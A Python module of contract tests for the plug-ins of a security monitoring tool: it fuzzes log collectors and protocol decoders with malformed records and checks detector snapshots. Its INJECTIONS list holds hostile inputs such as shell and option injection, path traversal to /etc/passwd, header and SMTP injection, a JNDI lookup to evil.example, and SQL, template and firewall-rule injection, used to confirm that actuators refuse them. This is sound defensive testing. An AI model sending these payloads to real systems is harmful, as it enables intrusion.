"""Contract tests for everyone who writes a part: call them from a test of yours.

    from cityward.checks import check_collector

    def test_the_gate_collector_keeps_its_promises():
        check_collector(ticket_gate, [b'{"gate": "N1", "result": "open", "ts": "…"}'])

Each raises AssertionError with one sentence that says which promise is broken, and by what input.
"""

from __future__ import annotations

import ipaddress
import json
import random
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from copy import deepcopy
from datetime import UTC, datetime, timedelta
from functools import partial
from inspect import isclass
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import msgspec

from cityward.command import Command, Target
from cityward.errors import TransientError, Unsafe
from cityward.event import Event, Record
from cityward.fields import FIELDS, faults
from cityward.finding import EVENTS_KEPT, SEVERITIES, Finding
from cityward.plugin import (
    Actuator,
    ActuatorSpec,
    CollectorSpec,
    DecoderSpec,
    Detector,
    Session,
    Transport,
)

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
"""When the records of a check are received."""
CUTS = 40
"""At how many places a sample is cut."""
KEYWORD_MAX = 40_000
"""Longest value of a keyword; longer ones belong to `event.original`."""
SNAPSHOT_MAX_BYTES = 64 << 20
STRANGERS = 20_000
"""How many addresses a detector meets that it has never seen."""
SHORTER = timedelta(seconds=5)
"""A device that counts in seconds may end an effect so much before what it was told."""

TOKENS = (
    b"\x00",
    b"\xff\xfe",
    b"\xed\xa0\x80",
    b"\\ud800",
    b"\\udc00x",
    b"1e999",
    b"-1",
    b"99999999999999999999999",
    b"9" * 400,
    b"NaN",
    b"null",
    b"[]",
    b"{}",
    b'{"a":' * 60,
    b'"',
    b"]",
    b"999.999.999.999",
    b"fe80::1%eth0",
    b"::ffff:10.0.0.1",
    b" from 6.6.6.6 port 66 ssh2",
    b"0000-00-00T99:99:99Z",
    b"Feb 30 25:61:61",
    b"<999>",
    b"\r\n",
    b"\t",
    "é￿𝟜".encode(),
    b"A" * 9_000,
)
"""What is put into the middle of records: each of them has broken a parser somewhere."""
VALUES: tuple[Any, ...] = (
    None,
    True,
    -1,
    0,
    65_536,
    2**63,
    10**400,
    1.5,
    "",
    "x",
    "-5",
    "999.1.1.1",
    "²",
    "\x00",
    "\ud800",
    "x" * 9_000,
    [],
    [[]],
    [1, None, "a"],
    {},
    {"a": {"b": [1]}},
)
"""What is put in the place of values of JSON."""
HOSTILE = (
    b"",
    b"\n",
    b" " * 1_000,
    b"\x00" * 64,
    b"\xff" * 64,
    bytes(range(256)) * 16,
    b"{" * 5_000,
    b"[" * 5_000,
    b'{"a":' * 3_000,
    b"a=" * 50_000,
    b"A" * 1_048_576,
)
"""Records that are no record of anybody."""


# ---- Collectors


def check_collector(collector: Any, samples: Sequence[bytes], *, mutants_each: int = 200) -> None:
    """Check what a collector promises, whatever it is given.

    It reads its samples; it answers empty, cut, binary, mutated and shuffled records with events
    and never with an exception; it uses only known fields with their type; (source, place, number)
    is unique; the same records give the same events.

    Args:
        collector: A function or a class that `@collector` marked; no collector of captures.
        samples: Good records, each as its reader gives it: a line, a document.
        mutants_each: How many broken variants of each sample are tried.

    Raises:
        AssertionError: a promise is broken; the message says which and by what record.
        ValueError: captures cannot be checked so; check their decoders.
    """
    name = _name(collector)
    spec = getattr(collector, "cityward_spec", None)
    assert isinstance(spec, CollectorSpec), f"{name} is not marked with @collector"
    if spec.framing == "packets":
        raise ValueError(f"{name} reads captures: check its decoders with check_decoder")
    assert samples, f"{name} has no sample"
    _reads(name, collector, samples)
    _is_recognised(name, spec, samples)
    broken = [*HOSTILE, *_cut(samples)]
    for number, sample in enumerate(samples):
        broken += mutants(sample, number, mutants_each)
    given = records([*samples, *broken])
    found = events_of(collector, given)
    for record, events in zip(given, found, strict=True):
        problems = broken_promises(record, events)
        assert not problems, f"{name}: {problems[0]}, from the record {_short(record.data)}"
    again = events_of(collector, given)
    for record, events, others in zip(given, found, again, strict=True):
        assert events == others, f"{name} reads the record {_short(record.data)} in two ways"
    random.Random(0).shuffle(given)
    _is_unique(name, collector, given)


def _reads(name: str, collector: Any, samples: Sequence[bytes]) -> None:
    for events in events_of(collector, records(samples)):
        for event in events:
            why = event.fields.get("event.reason")
            sample = _short(event.record.data)
            assert not event.is_malformed, f"{name} cannot read its own sample {sample}: {why}"


def _is_recognised(name: str, spec: CollectorSpec, samples: Sequence[bytes]) -> None:
    if spec.looks_like is None:
        return
    head = b"\n".join(samples) if spec.framing == "lines" else samples[0]
    assert spec.looks_like(head[:65_536]), f"{name}: looks_like does not recognise its own samples"
    for strange in HOSTILE:
        try:
            spec.looks_like(strange[:65_536])
        except Exception as error:
            said = f"{name}: looks_like raises {error!r} on {_short(strange)}"
            raise AssertionError(said) from error


def _cut(samples: Sequence[bytes]) -> Iterator[bytes]:
    for sample in samples:
        step = max(1, len(sample) // CUTS)
        yield from (sample[:end] for end in range(1, len(sample), step))


def _is_unique(name: str, collector: Any, given: Sequence[Record]) -> None:
    """All records in one call and out of order, then the end of the source."""
    part: Any = collector() if isclass(collector) else collector
    try:
        found = list(part(given))
        for method, arguments in (("tick", (NOW,)), ("end", ())):
            if call := getattr(part, method, None):
                found += call(*arguments)
    except Exception as error:
        raise AssertionError(f"{name} raises {error!r} on shuffled records") from error
    seen: set[tuple[str, str, int]] = set()
    for event in found:
        key = (event.record.source, str(event.record.place), event.number)
        assert key not in seen, f"{name} gives two events the same source, place and number: {key}"
        seen.add(key)


def records(data: Iterable[bytes]) -> list[Record]:
    """Records of one source, as a reader numbers them."""
    return [Record(one, "src", place, NOW) for place, one in enumerate(data)]


def events_of(collector: Any, given: Sequence[Record]) -> list[list[Event]]:
    """Events of each record, from a collector that is a function or a class.

    Raises:
        AssertionError: the collector raised something.
    """
    collect: Any = collector() if isclass(collector) else collector
    found = []
    for record in given:
        try:
            found.append(list(collect([record])))
        except Exception as error:
            said = f"{_name(collector)} raises {error!r} on the record {_short(record.data)}"
            raise AssertionError(said) from error
    return found


def mutants(sample: bytes, seed: int, count: int) -> Iterator[bytes]:
    """Broken variants of a record, the same for the same seed."""
    chance = random.Random(seed)
    for _ in range(count):
        change = _retyped if sample[:1] == b"{" and chance.random() < 0.5 else _damaged
        yield change(sample, chance)


def _damaged(sample: bytes, chance: random.Random) -> bytes:
    data = bytearray(sample)
    for _ in range(chance.randint(1, 3)):
        at, to = sorted((chance.randint(0, len(data)), chance.randint(0, len(data))))
        match chance.randrange(6):
            case 0:
                data[at : at + chance.randint(0, 9)] = chance.choice(TOKENS)
            case 1:
                del data[at:to]
            case 2:
                data[at:at] = data[at : min(to, at + 200)]
            case 3:
                del data[at:]
            case 4 if data:
                data[min(at, len(data) - 1)] = chance.randrange(256)
            case _:
                data[at:at] = chance.randbytes(chance.randint(1, 8))
    return bytes(data)


def _retyped(sample: bytes, chance: random.Random) -> bytes:
    """JSON in which some values have another type."""
    document = json.loads(sample)
    for _ in range(chance.randint(1, 3)):
        part = document
        while True:
            keys = list(part) if isinstance(part, dict) else list(range(len(part)))
            if not keys:
                break
            key = chance.choice(keys)
            if isinstance(part[key], (dict, list)) and chance.random() < 0.8:
                part = part[key]
                continue
            part[key] = deepcopy(chance.choice(VALUES))
            break
    return json.dumps(document).encode("utf-8", "surrogatepass")


def broken_promises(record: Record, events: Sequence[Event]) -> list[str]:
    """What a collector promises for every record, and these events do not keep."""
    found = []
    if not events:
        found.append("a record without an event")
    if [event.number for event in events] != list(range(len(events))):
        found.append(f"numbers {[event.number for event in events][:9]} instead of 0, 1, 2 …")
    for event in events:
        found += wrong_fields(event.fields)
        # A collector may leave out the data of a record that only carried the event.
        if (event.record.source, event.record.place) != (record.source, record.place):
            found.append("an event of another record")
        if event.time.utcoffset() is None:
            found.append(f"the time {event.time} has no zone")
    return found


def wrong_fields(fields: Mapping[str, Any]) -> list[str]:
    """Fields that are not in the table, and values that no store could keep."""
    found = faults(fields)
    for name, value in fields.items():
        found += [f"{name} holds {why}" for why in _wrong(name, value)]
    return found


def _wrong(name: str, value: Any) -> Iterator[str]:
    kind = FIELDS[name].type.removesuffix("[]") if name in FIELDS else ""
    for one in value if isinstance(value, list) else [value]:
        if kind == "ip" and not _is_address(one):
            yield f"{one!r}, which is no address"
        if name.endswith(".port") and not (isinstance(one, int) and 0 <= one <= 65_535):
            yield f"{one!r}, which is no port"
        if kind == "long" and not (isinstance(one, int) and -(2**63) <= one < 2**63):
            yield f"{one!r}, which is no long"
        if kind in ("double", "float") and not (
            isinstance(one, int | float) and abs(one) < float("inf")
        ):
            yield f"{one!r}, which is no number"
        if kind == "date" and not (isinstance(one, datetime) and one.utcoffset() is not None):
            yield f"{one!r}, which is no time with a zone"
    try:
        msgspec.json.encode(value)
        json.dumps(value, default=str, ensure_ascii=False).encode()
    except (TypeError, ValueError) as error:
        yield f"what cannot be stored: {error}"
    if kind == "keyword" and name != "event.original" and len(str(value)) > KEYWORD_MAX:
        yield "too long a value"


def _is_address(value: Any) -> bool:
    try:
        return "%" not in str(ipaddress.ip_address(value))
    except ValueError:
        return False


# ---- Decoders

Piece = tuple[bool, bytes]
"""Bytes of a conversation, and whether the client sent them."""


def check_decoder(
    decoder: Any,
    conversation: Sequence[Piece],
    *,
    transport: Transport | None = None,
    mutants_each: int = 100,
) -> None:
    """Check what a decoder promises, whatever it is given.

    It recognises its conversation and reads it; it gives the same messages however the bytes are
    portioned; it never raises on cut, binary or mutated bytes, nor after a gap; it uses only known
    fields with their type.

    Args:
        decoder: A class that `@decoder` marked.
        conversation: A good conversation, in order.
        transport: What carries it, where the decoder can do several; the first one otherwise.
        mutants_each: How many broken variants of each piece are tried.

    Raises:
        AssertionError: a promise is broken; the message says which and by what bytes.
    """
    name = _name(decoder)
    assert isinstance(getattr(decoder, "cityward_spec", None), DecoderSpec), (
        f"{name} is not marked with @decoder"
    )
    spec = decoder.cityward_spec
    transport = transport or spec.transports[0]
    assert conversation, f"{name} has no sample"
    head = conversation[0][1]
    assert decoder.recognises(head), f"{name} does not recognise its own conversation"
    assert not spec.begins or head[0] in spec.begins, f"{name} does not say that it begins so"
    whole = _decoded(decoder, conversation, transport)
    assert whole, f"{name} makes nothing of its own conversation"
    for fields in whole:
        why = fields.get("event.reason")
        assert fields.get("event.kind") != "pipeline_error", (
            f"{name} cannot read its own conversation: {why}"
        )
    again = _decoded(decoder, conversation, transport)
    assert whole == again, f"{name} reads the same bytes in two ways"
    if transport == "tcp":
        single = [(who, bytes([byte])) for who, data in conversation for byte in data]
        assert whole == _decoded(decoder, single, transport), (
            f"{name} gives other messages when the bytes come one by one"
        )
    for number, (who, data) in enumerate(conversation):
        for strange in (*HOSTILE, *_cut([data]), *mutants(data, number, mutants_each)):
            _recognises(name, decoder, strange)
            pieces = [*conversation[:number], (who, strange), *conversation[number + 1 :]]
            _decoded(decoder, pieces, transport, gap_at=number if len(strange) % 2 else -1)


def _recognises(name: str, decoder: Any, head: bytes) -> None:
    try:
        decoder.recognises(head)
    except Exception as error:
        raise AssertionError(f"{name}.recognises raises {error!r} on {_short(head)}") from error


def _session(transport: Transport) -> Session:
    base: dict[str, Any] = {"network.transport": transport}
    if transport == "link":
        ends = ("02:00:00:00:00:01", "02:00:00:00:00:02")
        return Session({"source.mac": ends[0], "destination.mac": ends[1]}, *ends)
    base |= {"source.ip": "192.0.2.1", "source.port": 40_000}
    base |= {"destination.ip": "192.0.2.2", "destination.port": 502}
    return Session(base, "192.0.2.1:40000", "192.0.2.2:502")


def _decoded(
    decoder: Any, pieces: Sequence[Piece], transport: Transport, gap_at: int = -1
) -> list[dict[str, Any]]:
    """All fields of a conversation, through a buffer as the reassembly keeps it."""
    part = decoder(_session(transport))
    rest = {True: b"", False: b""}
    found: list[dict[str, Any]] = []
    for number, (who, data) in enumerate(pieces):
        if number == gap_at:
            part.gap(who)
            rest[who] = b""
        given = rest[who] + data
        try:
            used, fields = part.feed(given, who, NOW.timestamp(), 1)
        except Exception as error:
            said = f"{_name(decoder)} raises {error!r} on the bytes {_short(given)}"
            raise AssertionError(said) from error
        assert 0 <= used <= len(given), f"{_name(decoder)} used {used} of {len(given)} bytes"
        rest[who] = given[used:] if transport == "tcp" else b""
        found += fields
    found += part.end()
    for fields in found:
        problems = wrong_fields(fields)
        assert not problems, f"{_name(decoder)}: {problems[0]}"
    return found


# ---- Detectors


def check_detector(make: Callable[[], Detector], events: Sequence[Event]) -> None:
    """Check what a detector promises.

    It is repeatable; it explains itself; its snapshot is no pickle, is bounded, and takes it on
    where it stood; it refuses a snapshot that is none of its own and changes nothing then.

    Args:
        make: Makes a fresh one.
        events: What it looks at, in order; best some that make it speak.

    Raises:
        AssertionError: a promise is broken; the message says which.
    """
    assert len(events) > 1, "a detector is checked with at least two events"
    one = make()
    name = one.name
    assert name, f"{type(one).__name__} has no name"
    first = _said(one, events)
    assert first == _said(make(), events), f"{name} says something else of the same events"
    _takes_on(name, make, events)
    _refuses(name, one)
    other = make()
    for at in range(0, STRANGERS, 1_000):
        list(other.detect([_stranger(events, number) for number in range(at, at + 1_000)]))
    size = len(other.snapshot())
    assert size <= SNAPSHOT_MAX_BYTES, f"{name} keeps {size:,} bytes of {STRANGERS:,} addresses"


def _said(detector: Detector, events: Sequence[Event]) -> list[Any]:
    """What a detector says, held to what a finding promises."""
    found = list(detector.detect(events))
    found += detector.tick(max(event.time for event in events))
    for finding in found:
        problems = broken_finding(finding)
        assert not problems, f"{detector.name}: {problems[0]}"
    return [msgspec.to_builtins(finding, str_keys=True) for finding in found]


def broken_finding(finding: Finding) -> list[str]:
    """What every finding promises, and this one does not keep."""
    found = []
    if not finding.title or not finding.description:
        found.append("a finding without title or sentence")
    if finding.severity not in SEVERITIES:
        found.append(f"{finding.severity!r} is no severity")
    if not finding.events or len(finding.events) > EVENTS_KEPT:
        found.append(f"a finding of {len(finding.events)} events; 1 to {EVENTS_KEPT} are kept")
    if finding.first_seen > finding.last_seen:
        found.append(f"a finding that ends before it begins: {finding.title}")
    if list(finding.group) != sorted(finding.group):
        found.append(f"a group that is not sorted: {finding.group}")
    if not 0 <= finding.confidence <= 1:
        found.append(f"a confidence of {finding.confidence}")
    return found


def _takes_on(name: str, make: Callable[[], Detector], events: Sequence[Event]) -> None:
    half = len(events) // 2
    unbroken, restored = make(), make()
    _said(unbroken, events[:half])
    state = unbroken.snapshot()
    assert isinstance(state, bytes), f"{name} gives a {type(state).__name__} as its snapshot"
    assert not state.startswith(b"\x80"), f"{name} gives a pickle as its snapshot"
    restored.restore(state)
    assert _said(unbroken, events[half:]) == _said(restored, events[half:]), (
        f"{name} says something else after it was restored"
    )


def _refuses(name: str, detector: Detector) -> None:
    before = detector.snapshot()
    for strange in (b"", b"{}", b"\x80\x04N.", before[: len(before) // 2]):
        try:
            detector.restore(strange)
        except ValueError:
            pass
        except Exception as error:
            raise AssertionError(f"{name} raises {error!r} instead of ValueError") from error
        else:
            raise AssertionError(f"{name} takes {_short(strange)} for a snapshot of its own")
    assert detector.snapshot() == before, f"{name} was changed by a snapshot that it refused"


def _stranger(events: Sequence[Event], number: int) -> Event:
    """One of the events from an address that nobody has seen."""
    event = events[number % len(events)]
    address = str(ipaddress.ip_address((10 << 24) + number))
    fields = {**event.fields, "source.ip": address}
    record = msgspec.structs.replace(event.record, place=f"stranger {number}")
    return Event(event.time, event.logsource, fields, record, event.number)


# ---- Actuators

INJECTIONS = (
    "; touch {mark}",
    "&& touch {mark}",
    "| touch {mark}",
    "`touch {mark}`",
    "$(touch {mark})",
    "\ntouch {mark}\n",
    "'; touch {mark}; '",
    '"; touch {mark}; "',
    "-oProxyCommand=touch {mark}",
    "--config={mark}",
    "-c {mark}",
    "../../../../{mark}",
    "/etc/passwd",
    "..\\..\\windows",
    "a\x00b",
    "\x1b[2J\x1b]0;title\x07",
    "x\r\nBcc: thief@example.net",
    "x\nSubject: you won",
    "x\r\n\r\n<html>body</html>",
    "x\r\nX-Injected: 1",
    "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /",
    "thief@example.net, soc@operator.example",
    "<thief@example.net>",
    "RCPT TO:<thief@example.net>",
    "\r\n.\r\nMAIL FROM:<thief@example.net>",
    "{{7*7}}",
    "{% for x in y %}{{x}}{% endfor %}",
    "${{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "%s%s%s%n",
    "{0.__class__}",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "' OR 1=1 --",
    '"}],"commands":[{"command":"deleteClient"',
    "203.0.113.7 } ; flush ruleset ; add element inet filter x {",
    "a.example transparent\nlocal_zone_remove b.example",
    "\u202egnp.exe",
    "\ud800",
    "＄（touch）",
    "A" * 70_000,
)
"""What strangers write in the hope that somebody executes it; `{mark}` is a file."""


def check_actuator(
    part: Actuator,
    target: Target,
    *,
    args: Mapping[str, Any] | None = None,
    look: Callable[[], Any] = lambda: None,
) -> None:
    """Check what an actuator promises, on a real program; it is left as it was found.

    Planning and looking change nothing. After a command it holds, and nothing more is planned; the
    same command again changes nothing. Undoing brings back what was found. Whatever is not its own
    – verb, type of target, a value that strangers made up – is refused with `Unsafe`, and no word
    of it is executed.

    Args:
        part: One that is set up; its class was marked by `@actuator`.
        target: Something it may act on, on which nothing holds yet.
        args: Arguments of the step.
        look: Tells the state of the program as somebody else sees it, in values that compare;
            where nothing is undone, what has arrived, each once.

    Raises:
        AssertionError: a promise is broken; the message says which.
    """
    spec = getattr(type(part), "cityward_spec", None)
    name = _name(type(part))
    assert isinstance(spec, ActuatorSpec), f"{name} is not marked with @actuator"
    _is_consistent(name, spec)
    _refuses_strangers(name, spec, part, target, look)
    for verb in spec.verbs:
        if spec.verbs[verb]:
            _is_undone(name, part, verb, target, args or {}, look)
        else:
            _is_said_once(name, part, verb, target, args or {}, look)


def check_actuator_alone(
    part: Actuator, target: Target, *, args: Mapping[str, Any] | None = None
) -> None:
    """Check that an actuator whose program is missing says so, and that it is worth trying again.

    Raises:
        AssertionError: it claims something about a program that it cannot ask.
    """
    spec, name = type(part).cityward_spec, _name(type(part))  # type: ignore[attr-defined]
    for verb, undo in spec.verbs.items():
        command = Command(verb, target, undo, _later(), args or {}, key="check")
        asked: list[Callable[[], Any]] = [partial(part.apply, command)]
        if undo:
            asked.append(partial(part.probe, target))
            asked.append(partial(part.apply, _back(command, {})))
        for ask in asked:
            try:
                ask()
            except TransientError:
                continue
            except Exception as error:
                said = f"{name} raises {error!r} instead of TransientError without its program"
                raise AssertionError(said) from error
            raise AssertionError(f"{name} acts as if its program were there")


def _is_consistent(name: str, spec: ActuatorSpec) -> None:
    assert spec.verbs, f"{name} has no verb"
    assert spec.action_class in ("A0", "A1", "A2", "A3"), f"{name}: no class {spec.action_class}"
    is_told = spec.action_class == "A0"
    assert is_told == (spec.rollback == "none"), f"{name} does not say who ends what it does"
    assert spec.rollback in ("device", "lease", "journal", "none"), f"{name}: {spec.rollback}?"
    for verb, undo in spec.verbs.items():
        assert bool(undo) != is_told, f"{name} does not say how {verb} is taken back"
        assert undo not in spec.verbs, f"{name}: {undo} takes back {verb}, and is a verb itself"


def _is_undone(
    name: str,
    part: Actuator,
    verb: str,
    target: Target,
    args: Mapping[str, Any],
    look: Callable[[], Any],
) -> None:
    world, before, until = look(), part.probe(target), _later()
    assert not before.is_applied, f"{name} is given a target on which something holds: {target}"
    commands = _planned(name, part, verb, target, until, args)
    assert commands, f"{name} plans nothing for {verb}, though nothing holds"
    _planned(name, part, verb, target, until, args)
    assert part.probe(target) == before, f"{name} changes the world by planning"
    assert look() == world, f"{name} changes the world by planning"
    for command in commands:
        part.apply(command)
    state, changed = part.probe(target), look()
    assert state.is_applied, f"{name} does not show that {verb} holds"
    assert state.until is None or abs(state.until - until) <= SHORTER, (
        f"{name} lets {verb} hold until {state.until} instead of {until}"
    )
    more = list(part.plan(verb, target, until))
    assert not more, f"{name} plans {verb} again, though it holds"
    for command in commands:
        part.apply(command)
    assert part.probe(target).is_applied, f"{name} takes back {verb} when it is told twice"
    assert look() == changed, f"{name} does more when it is told {verb} twice"
    for _ in range(2):
        for command in reversed(commands):
            part.apply(_back(command, command.prior))
        now = part.probe(target)
        assert now == before, f"{name} found {before.found} and brings back {now.found}"
        assert look() == world, f"{name} leaves something behind when {verb} is undone"


def _is_said_once(
    name: str,
    part: Actuator,
    verb: str,
    target: Target,
    args: Mapping[str, Any],
    look: Callable[[], Any],
) -> None:
    world = look()
    commands = _planned(name, part, verb, target, _later(), args)
    assert commands, f"{name} plans nothing for {verb}"
    assert look() == world, f"{name} changes the world by planning"
    for command in commands:
        part.apply(command)
    changed = look()
    for command in commands:
        part.apply(command)
    assert look() == changed, f"{name} does {verb} again for the same key"


def _planned(
    name: str,
    part: Actuator,
    verb: str,
    target: Target,
    until: datetime,
    args: Mapping[str, Any],
) -> list[Command]:
    """Commands as they come back from a journal, with a key each."""
    undo = type(part).cityward_spec.verbs[verb]  # type: ignore[attr-defined]
    made = []
    for number, one in enumerate(part.plan(verb, target, until)):
        assert one.target == target, f"{name} plans for {one.target} instead of {target}"
        assert (one.undo, one.until) == (undo, until), f"{name} plans another end than was asked"
        whole = msgspec.structs.replace(one, args={**one.args, **args}, key=f"check-{number}")
        try:
            made.append(msgspec.json.decode(msgspec.json.encode(whole), type=Command))
        except (TypeError, ValueError) as error:
            raise AssertionError(f"{name} plans what no journal can keep: {error}") from error
        assert made[-1] == whole, f"{name} plans what a journal gives back as something else"
    return made


def _refuses_strangers(
    name: str, spec: ActuatorSpec, part: Actuator, target: Target, look: Callable[[], Any]
) -> None:
    world = look()
    verbs = [verb for pair in spec.verbs.items() for verb in pair if verb]
    with TemporaryDirectory() as folder:
        mark = Path(folder, "mark")
        strange = [one.replace("{mark}", str(mark)) for one in INJECTIONS]
        kinds = spec.targets or ("device",)
        targets = [Target(kind, value) for kind in kinds for value in ("", *strange)]
        targets += [Target("process", "1"), *(Target(one, target.value) for one in strange if one)]
        for one in targets:
            what = f"the target {one}"
            _refuses_it(name, what, partial(part.probe, one))
            for verb in verbs:
                command = Command(verb, one, "", _later(), key="check")
                _refuses_it(name, what, partial(part.apply, command))
            for verb in spec.verbs:
                _refuses_it(name, what, partial(_all_planned, part, verb, one))
        for verb in ("", "detonate", *strange):
            command = Command(verb, target, "", _later(), key="check")
            _refuses_it(name, f"the verb {verb!r}", partial(part.apply, command))
            _refuses_it(name, f"the verb {verb!r}", partial(_all_planned, part, verb, target))
        assert not mark.exists(), f"{name} executes what strangers write"
    assert look() == world, f"{name} changes the world by what it refuses"


def _refuses_it(name: str, what: str, ask: Callable[[], Any]) -> None:
    try:
        ask()
    except Unsafe:
        return
    except Exception as error:
        said = f"{name} raises {type(error).__name__} instead of Unsafe for {what[:120]}"
        raise AssertionError(said) from error
    raise AssertionError(f"{name} takes {what[:120]}")


def _all_planned(part: Actuator, verb: str, target: Target) -> list[Command]:
    return list(part.plan(verb, target, _later()))


def _back(command: Command, prior: Mapping[str, Any]) -> Command:
    return msgspec.structs.replace(command, verb=command.undo, undo=command.verb, prior=prior)


def _later() -> datetime:
    return datetime.now(UTC).replace(microsecond=0) + timedelta(hours=1)


def _name(part: Any) -> str:
    return str(getattr(part, "__qualname__", None) or type(part).__name__)


def _short(data: bytes) -> str:
    return repr(data[:80]) + (f" … ({len(data):,} bytes)" if len(data) > 80 else "")
